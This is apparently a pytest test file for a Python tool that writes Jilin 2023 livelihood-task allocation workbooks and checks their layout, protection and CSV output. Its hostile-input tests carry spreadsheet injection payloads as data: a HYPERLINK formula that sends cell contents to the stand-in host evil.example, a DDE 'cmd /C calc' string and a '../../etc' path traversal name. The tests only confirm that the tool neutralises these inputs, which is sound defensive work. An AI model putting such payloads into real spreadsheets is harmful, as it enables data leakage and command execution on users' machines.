"""Task sheets (任务分解表) and the summary workbook, on the real Jilin 2023 baseline allocation.

Every workbook is read back with openpyxl: the sheets must give back exactly the allocation.
The helpers at the top (``jilin_inputs``, ``written``, ``fill_region``) are shared with the
reader and progress-sheet tests.
"""

from __future__ import annotations

import csv
import dataclasses
import functools
import math
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from minshi_geo.allocation import Allocation
from minshi_geo.sheets import layout
from minshi_geo.sheets.summary import CHECK_OK, PROVINCE_WIDE_SHEET, SUMMARY_SHEET
from minshi_geo.sheets.writer import SheetsError, region_rows, write_all_sheets

CREATED = date(2023, 3, 1)


# ----------------------------------------------------------------------------- shared inputs
@functools.lru_cache(maxsize=1)
def _baseline() -> tuple[Allocation, object, object]:
    from minshi_geo.demo import baseline_inputs

    return tuple(baseline_inputs())


def jilin_inputs(sample: bool | None = None) -> tuple[Allocation, object, object]:
    """The Jilin 2023 baseline allocation (real solver), its plan and region set.

    ``sample`` overrides the allocation's 示例 flag (a copy; the cached run is not touched).
    """
    allocation, plan, regions = _baseline()
    if sample is not None:
        allocation = Allocation(
            table=allocation.table.copy(),
            meta={**allocation.meta, "sample": sample},
            factor_values=allocation.factor_values,
            explanation=allocation.explanation,
            robustness=allocation.robustness,
        )
    return allocation, plan, regions


@functools.lru_cache(maxsize=4)
def _written(folder: str, sample: bool | None, csv: bool):
    allocation, plan, regions = jilin_inputs(sample)
    return write_all_sheets(allocation, plan, regions, folder, csv=csv, created=CREATED)


def written(tmp_path_factory, sample: bool | None = None, csv: bool = False):
    """The whole sheet set for the baseline, written once per combination (read-only use)."""
    key = f"sheets-{sample}-{csv}"
    folder = tmp_path_factory.getbasetemp() / key
    return _written(str(folder), sample, csv)


def heading_columns(ws) -> dict[str, int]:
    return {c.value: c.column for c in ws[layout.HEADING_ROW] if c.value}


def target_rows(ws) -> dict[str, int]:
    cols = heading_columns(ws)
    return {
        ws.cell(r, cols["指标编号"]).value: r
        for r in range(layout.FIRST_DATA_ROW, ws.max_row + 1)
        if ws.cell(r, cols["指标编号"]).value
    }


def fill_region(src: Path, dest: Path, values: dict[str, dict[str, object]],
                period_end: object = None) -> Path:
    """A region's filled-in copy, as a region would send it back (edited with openpyxl).

    ``values``: target id → {heading (累计完成/进展状态/备注/截至日期): value}.
    """
    wb = load_workbook(src)
    ws = wb[layout.TASK_SHEET]
    cols = heading_columns(ws)
    rows = target_rows(ws)
    if period_end is not None:
        ws.cell(layout.header_row_of("period_end"), layout.HEADER_VALUE_COL).value = period_end
    for tid, cells in values.items():
        for heading, value in cells.items():
            ws.cell(rows[tid], cols[heading]).value = value
    wb.save(dest)
    return dest


# ----------------------------------------------------------------------------- the set
def test_one_workbook_per_region_named_by_official_name_plus_the_summary(tmp_path_factory):
    allocation, plan, regions = jilin_inputs(sample=False)
    sheet_set = written(tmp_path_factory, sample=False)
    assert set(sheet_set.regions) == set(regions.codes)
    assert len(regions.codes) == 11
    for code, path in sheet_set.regions.items():
        assert path.name == f"2023年吉林省民生实事任务分解表-{regions.name_of(code)}.xlsx"
        assert path.is_file()
    assert sheet_set.regions["220100"].name == "2023年吉林省民生实事任务分解表-长春市.xlsx"
    assert sheet_set.summary.name == "2023年吉林省民生实事任务分解汇总表.xlsx"
    folder = sheet_set.summary.parent
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        p.name for p in sheet_set.workbooks
    )


def test_region_workbooks_give_back_exactly_the_allocation(tmp_path_factory):
    allocation, plan, regions = jilin_inputs()
    sheet_set = written(tmp_path_factory)
    table = allocation.table
    seen = 0
    for code, path in sheet_set.regions.items():
        ws = load_workbook(path)[layout.TASK_SHEET]
        cols = heading_columns(ws)
        rows = target_rows(ws)
        mine = table[table["region_code"] == code]
        expected = dict(zip(mine["target_id"], mine["quantity"], strict=True))
        got = {}
        for tid, r in rows.items():
            value = ws.cell(r, cols["本地区任务"]).value
            target = plan.target(tid)
            if target.splittable:
                got[tid] = value
                assert ws.cell(r, cols["全省目标"]).value == target.quantity
            else:
                assert value == layout.PROVINCE_WIDE
        assert got == expected, code
        seen += len(got)
        # every non-splittable target is on every region's sheet, in catalogue order
        province_wide = [t.id for t in plan.targets if not t.splittable]
        assert set(province_wide) <= set(rows)
        order = [t.id for t in plan.targets if t.id in rows]
        assert list(rows) == order
    assert seen == len(table)


def test_per_region_totals_equal_the_allocation_and_sum_to_province_totals(tmp_path_factory):
    allocation, plan, regions = jilin_inputs()
    sheet_set = written(tmp_path_factory)
    sums: dict[str, float] = {}
    for path in sheet_set.regions.values():
        ws = load_workbook(path)[layout.TASK_SHEET]
        cols = heading_columns(ws)
        for tid, r in target_rows(ws).items():
            value = ws.cell(r, cols["本地区任务"]).value
            if isinstance(value, int | float):
                sums[tid] = sums.get(tid, 0) + value
    for target in plan.targets:
        if target.splittable and target.id in sums:
            if target.qualifier == "at_least":
                assert sums[target.id] >= target.quantity
            else:
                assert sums[target.id] == pytest.approx(target.quantity), target.id


def test_region_sheet_columns_and_header_block(tmp_path_factory):
    allocation, plan, regions = jilin_inputs(sample=False)
    ws = load_workbook(written(tmp_path_factory, sample=False).regions["220100"])[layout.TASK_SHEET]
    headings = [c.value for c in ws[layout.HEADING_ROW] if c.value]
    assert headings == [
        "序号", "指标编号", "事项", "指标", "单位", "全省目标", "本地区任务", "占全省比例",
        "完成时限", "牵头单位", "责任单位", "截至日期", "累计完成", "进展状态", "备注",
    ]  # fmt: skip  (领域 is a heading row per sector: 一、促进就业方面)
    # a 公文 attachment: 附件 line, title, issuing office and date
    assert ws.cell(layout.ATTACHMENT_ROW, 1).value == "附件1"
    assert ws.cell(layout.TITLE_ROW, 1).value == "2023年吉林省民生实事任务分解表——长春市"
    assert ws.cell(layout.ISSUER_ROW, 1).value == "吉林省民生工作领导小组办公室　　2023年3月1日"
    assert ws.cell(layout.SECTOR_ROW, 1).value == "一、促进就业方面"
    assert ws.cell(layout.FIRST_DATA_ROW, 2).value == "1.1"  # the first target's row
    texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert {"二、社会保障方面", "十、公共安全服务方面", "填报单位（盖章）：", "填报日期：",
            "审核人：", "填报人：", "联系电话："} <= set(texts)

    def field(key):
        return ws.cell(layout.header_row_of(key), layout.HEADER_VALUE_COL).value

    assert field("region") == "长春市"
    assert field("region_code") == "220100"
    assert field("created") == "2023年3月1日"
    assert field("data") == layout.DATA_OFFICIAL
    assert allocation.meta["scenario_title"] in field("scenario")
    assert field("identity") == f"jilin-2023|220100|{allocation.meta['scenario_sha256']}"
    # codes, hashes and 数据性质 正式 stay for the reader but are not shown or printed
    for key in ("region_code", "created", "identity", "data"):
        assert ws.row_dimensions[layout.header_row_of(key)].hidden, key
    for key in ("plan", "region", "scenario", "period_end"):
        assert not ws.row_dimensions[layout.header_row_of(key)].hidden, key
    assert allocation.meta["scenario"] not in field("scenario")  # the title, not the file name
    # 牵头单位 blank (the catalogue names none) and fillable, never invented; 责任单位 fillable
    rows, cols = target_rows(ws), heading_columns(ws)
    for heading in ("牵头单位", "责任单位"):
        cell = ws.cell(rows["1.1"], cols[heading])
        assert cell.value is None and cell.protection.locked is False, heading
    # a milestone row: 全省统一, and a status cell to report on
    rows, cols = target_rows(ws), heading_columns(ws)
    assert plan.target("2.1").kind == "milestone"
    assert ws.cell(rows["2.1"], cols["本地区任务"]).value == layout.PROVINCE_WIDE
    assert ws.cell(rows["2.1"], cols["进展状态"]).protection.locked is False
    assert ws.cell(rows["2.1"], cols["累计完成"]).protection.locked is True
    # a count row: 占全省比例 is the tool's own formula, formatted as a percentage
    share = ws.cell(rows["1.1"], cols["占全省比例"])
    assert share.data_type == "f" and share.number_format == "0.0%"
    assert ws.cell(rows["1.1"], cols["本地区任务"]).number_format == '#,##0"人"'


def test_lead_column_appears_when_the_catalogue_names_lead_units(tmp_path):
    allocation, plan, regions = jilin_inputs()
    targets = [dataclasses.replace(t, lead="省人力资源社会保障厅") if t.id == "1.1" else t
               for t in plan.targets]
    plan_with_lead = dataclasses.replace(plan, targets=targets)
    sheet_set = write_all_sheets(allocation, plan_with_lead, regions, tmp_path)
    ws = load_workbook(sheet_set.regions["220100"])[layout.TASK_SHEET]
    cols = heading_columns(ws)
    assert cols["牵头单位"] == cols["完成时限"] + 1
    cell = ws.cell(target_rows(ws)["1.1"], cols["牵头单位"])
    assert cell.value == "省人力资源社会保障厅" and cell.protection.locked is True


def test_summary_rows_and_sector_columns_check_against_province_totals(tmp_path_factory):
    allocation, plan, regions = jilin_inputs()
    wb = load_workbook(written(tmp_path_factory).summary)
    sectors = [s.name for s in plan.sectors]
    assert wb.sheetnames == [SUMMARY_SHEET, *sectors, PROVINCE_WIDE_SHEET, "测算说明"]
    ws = wb[SUMMARY_SHEET]
    heading_row = next(r for r in range(1, 20) if ws.cell(r, 1).value == "序号")
    headings = [c.value for c in ws[heading_row]]
    region_cols = [headings.index(regions.name_of(c)) + 1 for c in regions.codes]
    total_col, check_col = headings.index("合计") + 1, headings.index("核对") + 1
    pivot = allocation.pivot()
    split = [t for t in plan.targets if t.splittable and t.id in set(allocation.table["target_id"])]
    for i, target in enumerate(split, start=heading_row + 1):
        assert ws.cell(i, 2).value == target.id
        values = [ws.cell(i, c).value for c in region_cols]
        expected = [None if pd.isna(pivot.at[c, target.id]) else pivot.at[c, target.id]
                    for c in regions.codes]
        assert values == expected
        assert ws.cell(i, 7).value == target.quantity
        assert sum(v or 0 for v in values) == pytest.approx(target.quantity)
        assert ws.cell(i, total_col).value.startswith("=SUM(")
        assert ws.cell(i, check_col).value.startswith("=IF(")
    assert ws.max_row == heading_row + len(split)
    # sector sheets: regions down, targets across; 合计 / 全省目标 / 核对 rows at the bottom
    traffic = wb["交通出行"]
    hr = next(r for r in range(1, 20) if traffic.cell(r, 1).value == "序号")
    n = len(regions.codes)
    # names, not codes (长白山管委会 has no adcode: "changbaishan" is internal)
    assert [traffic.cell(hr + 1 + k, 2).value for k in range(n)] == [
        regions.name_of(c) for c in regions.codes]
    assert "changbaishan" not in {c.value for row in traffic.iter_rows() for c in row}
    assert [traffic.cell(hr + n + k, 2).value for k in (1, 2, 3)] == ["合计", "全省目标", "核对"]
    for c in range(3, traffic.max_column + 1):
        tid = traffic.cell(hr, c).value.split()[0]
        column = [traffic.cell(hr + 1 + k, c).value or 0 for k in range(n)]
        assert sum(column) == pytest.approx(plan.target(tid).quantity)
        assert traffic.cell(hr + n + 2, c).value == plan.target(tid).quantity
        assert traffic.cell(hr + n + 1, c).value.startswith("=SUM(")


def test_summary_sheet_furniture_frozen_filtered_printable(tmp_path_factory):
    wb = load_workbook(written(tmp_path_factory).summary)
    for ws in wb.worksheets:
        assert ws.page_setup.orientation == "landscape"
        assert int(ws.page_setup.paperSize) == 9  # A4
        assert ws.print_title_rows, ws.title
    ws = wb[SUMMARY_SHEET]
    hr = next(r for r in range(1, 20) if ws.cell(r, 1).value == "序号")
    assert ws.freeze_panes == f"H{hr + 1}"
    assert ws.auto_filter.ref.startswith(f"A{hr}:")
    labels = [ws.cell(r, 1).value for r in range(2, hr)]
    assert "印发" in labels and "数据性质" not in labels  # official data: no 正式 line
    assert ws.column_dimensions["E"].width >= 20  # 指标 wraps at 10 CJK characters a line


def test_identity_is_very_hidden_protected_and_names_exactly_the_rows(tmp_path_factory):
    allocation, plan, regions = jilin_inputs()
    path = written(tmp_path_factory).regions["220200"]
    wb = load_workbook(path)
    ident = wb[layout.IDENTITY_SHEET]
    assert ident.sheet_state == "veryHidden"
    assert ident.protection.sheet is True
    values = {r[0]: r[1] for r in ident.iter_rows(values_only=True) if r[0] != "target_id"}
    ids = [r[1] for r in ident.iter_rows(values_only=True) if r[0] == "target_id"]
    assert values["plan_id"] == "jilin-2023"
    assert values["region_code"] == "220200"
    assert values["scenario_sha256"] == allocation.meta["scenario_sha256"]
    assert values["catalogue_sha256"] == plan.sha256
    assert ids == [row.target_id for row in region_rows(allocation, plan, "220200")]
    assert ids == list(target_rows(wb[layout.TASK_SHEET]))
    props = {p.name: p.value for p in wb.custom_doc_props.props}
    assert props["minshi.region_code"] == "220200"
    assert props["minshi.plan_id"] == "jilin-2023"


def test_task_sheet_is_protected_with_only_reporting_cells_unlocked_and_validated(
    tmp_path_factory,
):
    allocation, plan, regions = jilin_inputs()
    ws = load_workbook(written(tmp_path_factory).regions["220100"])[layout.TASK_SHEET]
    assert ws.protection.sheet is True
    cols, rows = heading_columns(ws), target_rows(ws)
    reporting = {"截至日期", "累计完成", "进展状态", "备注"}
    validations = {dv.type: dv for dv in ws.data_validations.dataValidation}
    assert validations["decimal"].operator == "greaterThanOrEqual"
    assert validations["decimal"].formula1 == "0"
    assert validations["list"].formula1 == '"未启动,推进中,已完成"'
    for tid, r in rows.items():
        target = plan.target(tid)
        for heading, c in cols.items():
            cell = ws.cell(r, c)
            # 牵头单位 (none in the catalogue) and 责任单位 are fillable, not read back
            open_ = heading in {"截至日期", "备注", "牵头单位", "责任单位"} or (
                heading == "累计完成" and target.kind in ("count", "rate")
            ) or (heading == "进展状态" and target.kind in ("milestone", "standard"))
            assert cell.protection.locked is (not open_), (tid, heading)
            if heading in reporting and open_ and heading != "备注":
                kind = {"截至日期": "date", "累计完成": "decimal", "进展状态": "list"}[heading]
                assert cell.coordinate in validations[kind], (tid, heading)
    period_cell = ws.cell(layout.header_row_of("period_end"), layout.HEADER_VALUE_COL)
    assert period_cell.protection.locked is False
    assert period_cell.coordinate in validations["date"]


def test_sample_data_is_marked_in_every_sheet_and_file_name(tmp_path_factory):
    sheet_set = written(tmp_path_factory, sample=True, csv=True)
    for path in [*sheet_set.workbooks, *sheet_set.csv]:
        assert path.stem.endswith("-示例") or "-示例-" in path.stem, path.name
    for path in sheet_set.workbooks:
        wb = load_workbook(path)
        for ws in wb.worksheets:
            if ws.sheet_state != "visible":
                continue
            # the title: row 1, or row 2 under the 附件 line of a task sheet
            title = ws.cell(layout.TITLE_ROW if ws.title == layout.TASK_SHEET else 1, 1).value
            assert "示例" in title, (path.name, ws.title)
            texts = [c.value for row in ws.iter_rows(max_row=12) for c in row if c.value]
            assert layout.SAMPLE_NOTE in texts, (path.name, ws.title)
            assert ws.oddHeader.right.text == "示例"
    ident = load_workbook(sheet_set.regions["220100"])[layout.IDENTITY_SHEET]
    assert {r[0]: r[1] for r in ident.iter_rows(values_only=True)}["sample"] == "true"


def test_csv_for_every_sheet_utf8_with_bom_same_numbers(tmp_path_factory):
    allocation, plan, regions = jilin_inputs()
    sheet_set = written(tmp_path_factory, csv=True)
    summary_sheets = load_workbook(sheet_set.summary).sheetnames
    assert len(sheet_set.csv) == len(sheet_set.regions) + len(summary_sheets)
    for path in sheet_set.csv:
        assert path.read_bytes().startswith(b"\xef\xbb\xbf"), path.name
    region_csv = next(p for p in sheet_set.csv if p.stem.endswith("-长春市"))
    with region_csv.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    heading = rows[layout.HEADING_ROW - 1]
    assert heading[:3] == ["序号", "指标编号", "事项"]
    data = {r[1]: r for r in rows[layout.HEADING_ROW:] if len(r) > 1}
    mine = allocation.target("1.1")
    expected = int(mine.loc[mine["region_code"] == "220100", "quantity"].iloc[0])
    assert data["1.1"][heading.index("本地区任务")] == str(expected)
    share = float(data["1.1"][heading.index("占全省比例")])  # a value, never a formula
    assert share == pytest.approx(expected / plan.target("1.1").quantity)
    summary_csv = next(p for p in sheet_set.csv if p.stem.endswith("-汇总"))
    text = summary_csv.read_text(encoding="utf-8-sig")
    assert "=SUM" not in text and CHECK_OK in text
    assert "不一致" not in text


def test_cli_sheets_writes_the_set_from_an_allocation_folder(tmp_path):
    from minshi_geo.cli import app

    allocation, plan, regions = jilin_inputs()
    allocation.save(tmp_path / "alloc")
    result = CliRunner().invoke(app, ["sheets", str(tmp_path / "alloc"), "-o",
                                      str(tmp_path / "sheets"), "--csv"])
    assert result.exit_code == 0, result.output
    names = sorted(p.name for p in (tmp_path / "sheets").glob("*.xlsx"))
    assert len(names) == 12 and "2023年吉林省民生实事任务分解表-长春市.xlsx" in names
    assert len(list((tmp_path / "sheets" / "csv").glob("*.csv"))) == 11 + 13  # + 测算说明


def test_cli_sheets_on_a_missing_folder_is_one_error_line_exit_2(tmp_path):
    from minshi_geo.cli import app

    result = CliRunner().invoke(app, ["sheets", str(tmp_path / "nowhere")])
    assert result.exit_code == 2
    assert "allocation.csv: file not found" in result.output
    assert "Traceback" not in result.output


def test_sheets_refuse_an_allocation_made_from_another_catalogue(tmp_path):
    allocation, plan, regions = jilin_inputs()
    stale = Allocation(table=allocation.table, meta={**allocation.meta,
                                                     "catalogue_sha256": "0" * 64})
    with pytest.raises(SheetsError, match="catalogue changed since the allocation"):
        write_all_sheets(stale, plan, regions, tmp_path / "out")
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


# ----------------------------------------------------------------------------- hostile input
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


def _hostile_inputs(name_for_220100: str, name_for_220200: str | None = None):
    allocation, plan, regions = jilin_inputs()
    frame = regions.frame.copy()
    frame.loc["220100", "name"] = name_for_220100
    if name_for_220200 is not None:
        frame.loc["220200", "name"] = name_for_220200
    hostile_regions = dataclasses.replace(regions, frame=frame)
    targets = [
        dataclasses.replace(t, metric=HOSTILE_FORMULA, lead="@SUM(1+1)*cmd|' /C calc'!A0")
        if t.id == "1.1" else t
        for t in plan.targets
    ]
    items = [dataclasses.replace(i, short="+1+1") if i.number == 1 else i for i in plan.items]
    hostile_plan = dataclasses.replace(plan, targets=targets, items=items)
    object.__setattr__(hostile_plan, "_by_id", {t.id: t for t in targets})
    return allocation, hostile_plan, hostile_regions


def _formula_cells(path: Path) -> list[tuple[str, str, str]]:
    wb = load_workbook(path)
    return [(ws.title, c.coordinate, c.value) for ws in wb.worksheets
            for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_hostile_region_name_and_texts_are_neutralised(tmp_path):
    allocation, plan, regions = _hostile_inputs("../../etc/=HYPERLINK(\"http://x\")长春市")
    out = tmp_path / "out"
    sheet_set = write_all_sheets(allocation, plan, regions, out, csv=True)
    # the file stays inside the folder, with no separator or Windows-forbidden character
    everything = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert all(out in p.parents for p in everything)
    hostile_file = sheet_set.regions["220100"]
    assert hostile_file.parent == out
    assert not set('/\\:*?"<>|') & set(hostile_file.name)
    assert hostile_file.name == "2023年吉林省民生实事任务分解表-____etc_=HYPERLINK(_http___x_)长春市.xlsx"
    # data never becomes a formula: the only formulas are the tool's own totals/ratios/checks
    for path in sheet_set.workbooks:
        for sheet, coord, value in _formula_cells(path):
            assert value.startswith(("=IF(", "=SUM(")), (path.name, sheet, coord, value)
            assert "HYPERLINK" not in value and "cmd" not in value
    ws = load_workbook(hostile_file)[layout.TASK_SHEET]
    texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + HOSTILE_FORMULA in texts
    assert "'+1+1" in texts
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in texts
    assert ws.cell(layout.header_row_of("region"), layout.HEADER_VALUE_COL).value == (
        '../../etc/=HYPERLINK("http://x")长春市'  # not a formula: it does not start with =
    )
    for path in sheet_set.csv:
        with path.open(encoding="utf-8-sig", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, cell)


def test_region_name_starting_with_equals_sign_is_text_everywhere(tmp_path):
    allocation, plan, regions = _hostile_inputs('=HYPERLINK("http://evil")')
    sheet_set = write_all_sheets(allocation, plan, regions, tmp_path)
    for path in sheet_set.workbooks:
        for _sheet, _coord, value in _formula_cells(path):
            assert "evil" not in value
    ws = load_workbook(sheet_set.summary)[SUMMARY_SHEET]
    assert "'=HYPERLINK(\"http://evil\")" in [c.value for row in ws.iter_rows() for c in row]


def test_a_failed_run_keeps_the_previous_files_and_leaves_no_half_written_workbook(tmp_path):
    allocation, plan, regions = jilin_inputs()
    out = tmp_path / "sheets"
    first = write_all_sheets(allocation, plan, regions, out, created=CREATED)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    # Two regions whose names collide once made safe for Windows: the run fails after some
    # workbooks were already saved (into the temporary folder).
    _a, _p, clashing = _hostile_inputs("同名:市", "同名?市")
    with pytest.raises(SheetsError, match="give the same file name"):
        write_all_sheets(allocation, plan, clashing, out, created=date(2023, 4, 1))
    after = {p.name: p.read_bytes() for p in out.iterdir()}
    assert after == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["sheets"]  # no temp folder left
    assert len(first.workbooks) == 12


def test_workbook_text_widths_fit_chinese(tmp_path_factory):
    ws = load_workbook(written(tmp_path_factory).regions["220100"])[layout.TASK_SHEET]
    cols = heading_columns(ws)
    from openpyxl.utils import get_column_letter

    def width(heading):
        return ws.column_dimensions[get_column_letter(cols[heading])].width

    assert width("指标") >= 22  # long CJK metric names wrap at a readable width
    assert width("事项") >= 16
    assert math.isclose(width("序号"), 6) or width("序号") >= 6
    assert width("完成时限") >= 15  # 2023年12月31日 in full, not ####


def test_task_and_summary_tables_print_at_a_readable_scale(tmp_path_factory):
    # Fit to one page wide on A4 landscape: a table much wider than ~200 units prints below
    # 70 % (10-pt text at 6–7 pt). Long text wraps instead, and its rows get the height of
    # their lines — neither Excel nor LibreOffice re-measures rows of a generated file.
    from openpyxl.utils import get_column_letter

    sheets = written(tmp_path_factory)
    for path, name, limit in ((sheets.regions["220100"], layout.TASK_SHEET, 190),
                              (sheets.summary, SUMMARY_SHEET, 215)):
        ws = load_workbook(path)[name]
        total = sum(ws.column_dimensions[get_column_letter(c)].width or 8.43
                    for c in range(1, ws.max_column + 1))
        assert total <= limit, (name, total)
    ws = load_workbook(sheets.regions["220100"])[layout.TASK_SHEET]
    rows, cols = target_rows(ws), heading_columns(ws)
    assert ws.cell(rows["3.2"], cols["指标"]).value == "城乡低保标准达到省定最低指导标准"
    assert ws.row_dimensions[rows["3.2"]].height >= 2 * 13  # 16 CJK characters: two lines
    assert ws.row_dimensions[rows["1.1"]].height is None  # 城镇新增就业: one line, default



def test_a_target_the_scenario_left_unsplit_is_reported_province_wide(tmp_path):
    allocation, plan, regions = jilin_inputs()
    partial = Allocation(table=allocation.table[allocation.table.target_id != "1.1"],
                         meta=allocation.meta)
    sheet_set = write_all_sheets(partial, plan, regions, tmp_path)
    ws = load_workbook(sheet_set.regions["220300"])[layout.TASK_SHEET]
    row = target_rows(ws)["1.1"]
    assert ws.cell(row, heading_columns(ws)["本地区任务"]).value == layout.PROVINCE_WIDE
    listed = load_workbook(sheet_set.summary)[PROVINCE_WIDE_SHEET]
    texts = {c.value for r in listed.iter_rows() for c in r}
    assert "可分解，但本分解方案未分解" in texts


def test_summary_and_region_sheets_can_be_written_on_their_own(tmp_path):
    from minshi_geo.sheets.summary import write_summary
    from minshi_geo.sheets.writer import write_region_sheets

    allocation, plan, regions = jilin_inputs()
    summary = write_summary(allocation, plan, regions, tmp_path / "s", created=CREATED)
    assert [p.name for p in (tmp_path / "s").iterdir()] == [summary.name]
    region_set = write_region_sheets(allocation, plan, regions, tmp_path / "r", csv=True)
    assert len(list((tmp_path / "r").glob("*.xlsx"))) == 11
    assert len(region_set.csv) == 11 and region_set.summary is None


def test_page_header_and_footer_have_room_above_and_below_the_table(tmp_path_factory):
    # The page header (title) and footer (第 N 页) print between the paper edge and the table;
    # with less than about 0.25" between header margin and top margin they are cut off.
    sheets = written(tmp_path_factory)
    for path in (sheets.regions["220100"], sheets.summary):
        for ws in load_workbook(path).worksheets:
            if ws.sheet_state != "visible":
                continue
            m = ws.page_margins
            assert m.top - m.header >= 0.25 and m.bottom - m.footer >= 0.25, (path.name, ws.title)
